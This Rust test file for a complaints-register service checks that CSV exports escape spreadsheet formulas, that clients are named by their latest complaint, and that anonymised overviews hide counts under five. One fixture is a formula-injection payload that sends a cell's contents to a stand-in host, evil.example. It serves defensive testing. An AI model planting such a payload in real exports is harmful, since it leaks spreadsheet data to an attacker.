//! What the overview, its CSV and report, and the service's headers and logs give away
//! (issue 11, items 6, 7 and 11).

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::on_both_databases;
use crate::support::{DANA, EVA, KEES, Person, Reply, TestApp};
use klachtenregister::domain::roles::Role;

on_both_databases!(
    csv_cells_never_start_a_formula,
    a_client_is_named_by_their_latest_complaint,
    the_anonymised_overview_has_no_small_cells,
);

/// A dienstverlener whose id and name are formulas.
const FORMULA: Person = Person {
    org: crate::support::ORG_A,
    id: "=2+5",
    name: "@SUM(1+1)",
    roles: &[Role::Dienstverlener],
};

async fn get_as(app: &TestApp, path: &str, person: Person, accept: &str) -> Reply {
    let response = app
        .client
        .get(app.url(path))
        .bearer_auth(app.token(person))
        .header("accept", accept)
        .send()
        .await
        .unwrap();
    Reply::from(response).await
}

fn external(client: (&str, &str), received_at: &str, handler: &str) -> Value {
    json!({
        "kind": "complaint", "reported_by": "client", "received_at": received_at,
        "complainant": {"name": "Klager"},
        "client": {"id": client.0, "name": client.1},
        "matter_reference": "Z-1", "description": "Klacht", "handler_id": handler
    })
}

/// The CSV's cells, `section,key,value` each.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn csv_cells_never_start_a_formula(app: TestApp) {
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"Klik")"#;
    // The formula dienstverlener makes themselves known to the service.
    assert_eq!(app.get("/api/v1/complaints", FORMULA).await.status, StatusCode::OK);
    app.register(DANA, &external(("=1+1", hyperlink), "2026-11-02T08:00:00Z", "=2+5")).await;
    app.register(DANA, &external(("-3", "+31 6"), "2026-11-02T08:10:00Z", "dana")).await;
    let reply =
        get_as(&app, "/api/v1/overview?from=2026-11-01&to=2026-11-30", KEES, "text/csv").await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
    let rows = cells(&reply.text);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
            "a live formula: {cell:?}"
        );
    }
    let named = |section: &str, key: &str| {
        rows.iter().any(|r| r[0] == section && r[1] == key && r[2] == "1")
    };
    assert!(named("by_client", &format!("'{hyperlink}")), "{}", reply.text);
    assert!(named("by_client", "'+31 6"), "{}", reply.text);
    assert!(named("by_handler", "'@SUM(1+1)"), "{}", reply.text);
    // Numbers stay numbers.
    assert!(rows.iter().any(|r| r[0] == "total" && r[2] == "2"));
}

async fn a_client_is_named_by_their_latest_complaint(app: TestApp) {
    app.clock.set("2026-11-04T09:00:00Z".parse().unwrap());
    app.register(DANA, &external(("REL-1", "Zwart Beheer"), "2026-11-02T08:00:00Z", "dana")).await;
    app.register(DANA, &external(("REL-1", "Albers & Zn"), "2026-11-03T08:00:00Z", "dana")).await;
    let o = app.get("/api/v1/overview?from=2026-11-01&to=2026-11-30", KEES).await;
    assert_eq!(o.status, StatusCode::OK, "{}", o.text);
    assert_eq!(o.json["by_client"], json!([{"name": "Albers & Zn", "id": "REL-1", "count": 2}]));
}

/// Every figure of an overview's JSON that describes complaints (the actions' counts do
/// not), with where it is.
fn figures(o: &Value) -> Vec<(String, Value)> {
    let mut all = vec![
        ("total".to_owned(), o["total"].clone()),
        ("discussed_anonymously".to_owned(), o["discussed_anonymously"].clone()),
        ("median_hours".to_owned(), o["median_hours_to_first_response"].clone()),
        ("median_days".to_owned(), o["median_days_to_closure"].clone()),
    ];
    for section in [
        "by_kind",
        "by_status",
        "by_channel",
        "by_category",
        "by_reporter",
        "response_term",
        "outcome",
    ] {
        for (key, value) in o[section].as_object().unwrap() {
            all.push((format!("{section}.{key}"), value.clone()));
        }
    }
    for r in o["recurrence"].as_array().unwrap() {
        for part in ["current", "previous", "change"] {
            all.push((format!("recurrence.{}.{part}", r["category"]), r[part].clone()));
        }
    }
    for m in o["per_month"].as_array().unwrap() {
        all.push((format!("per_month.{}", m["month"]), m["total"].clone()));
        for (key, value) in m["by_category"].as_object().unwrap() {
            all.push((format!("per_month.{}.{key}", m["month"]), value.clone()));
        }
    }
    all
}

async fn the_anonymised_overview_has_no_small_cells(app: TestApp) {
    // One complaint on 3 November, Eva's, answered and decided; Dana has no part in it.
    app.clock.set("2026-11-03T09:00:00Z".parse().unwrap());
    let mut body = external(("REL-9", "Bakkerij Jansen"), "2026-11-03T08:00:00Z", "eva");
    body["reported_by"] = json!("representative");
    let id = app.register(EVA, &body).await["id"].as_i64().unwrap();
    let contact = json!({"channel": "phone", "summary": "Gesproken"});
    let reply = app.post(&format!("/api/v1/complaints/{id}/contacts"), EVA, &contact).await;
    assert!(reply.status.is_success(), "{}", reply.text);
    app.clock.set("2026-11-04T09:00:00Z".parse().unwrap());
    let day = "from=2026-11-03&to=2026-11-03";

    let o = app.get(&format!("/api/v1/overview?{day}"), DANA).await;
    assert_eq!(o.status, StatusCode::OK, "{}", o.text);
    assert_eq!(o.json["anonymised"], true);
    for (place, value) in figures(&o.json) {
        assert_eq!(value, "< 5", "{place} describes fewer than five complaints: {}", o.text);
    }
    assert_eq!((&o.json["by_handler"], &o.json["by_client"]), (&json!([]), &json!([])));
    // The coordinator's named overview has the figures themselves.
    let named = app.get(&format!("/api/v1/overview?{day}"), KEES).await;
    assert_eq!(named.json["total"], 1);
    assert_eq!(named.json["by_reporter"]["representative"], 1);
    assert_eq!(named.json["by_handler"][0]["id"], "eva");

    // The CSV and the report say the same.
    let csv = get_as(&app, &format!("/api/v1/overview?{day}"), DANA, "text/csv").await;
    let rows = cells(&csv.text);
    let total = rows.iter().find(|r| r[0] == "total").unwrap();
    assert_eq!(total[2], "< 5");
    assert!(rows.iter().all(|r| r[0] != "by_handler" && r[0] != "by_client"), "{}", csv.text);
    let report = app.get(&format!("/api/v1/overview/report?{day}"), KEES).await;
    assert_eq!(report.status, StatusCode::OK);
    assert!(report.text.contains("&lt; 5"), "{}", report.text);
    assert!(!report.text.contains("Per medewerker"), "no rows per person");

    // The evaluation's snapshot is the anonymised overview.
    let evaluation = json!({
        "meeting_on": "2026-11-04", "period_from": "2026-11-03", "period_to": "2026-11-03",
        "summary": "Besproken.", "decisions": "Geen.", "assessments": []
    });
    let created = app.post("/api/v1/evaluations", KEES, &evaluation).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);
    for (place, value) in figures(&created.json["snapshot"]) {
        assert_eq!(value, "< 5", "snapshot {place}");
    }
    let read = app.get(&format!("/api/v1/evaluations/{}", created.json["id"]), DANA).await;
    assert_eq!(read.json["snapshot"], created.json["snapshot"]);

    // Five more complaints that day: the total and the counts of five or more are shown.
    app.clock.set("2026-11-03T12:00:00Z".parse().unwrap());
    for _ in 0..5 {
        app.register(EVA, &external(("REL-9", "Bakkerij Jansen"), "2026-11-03T10:00:00Z", "eva"))
            .await;
    }
    let o = app.get(&format!("/api/v1/overview?{day}"), DANA).await;
    assert_eq!(o.json["total"], 6);
    assert_eq!(o.json["by_kind"]["complaint"], 6);
    assert_eq!(o.json["by_reporter"]["client"], 5);
    assert_eq!(o.json["by_reporter"]["representative"], "< 5");
}
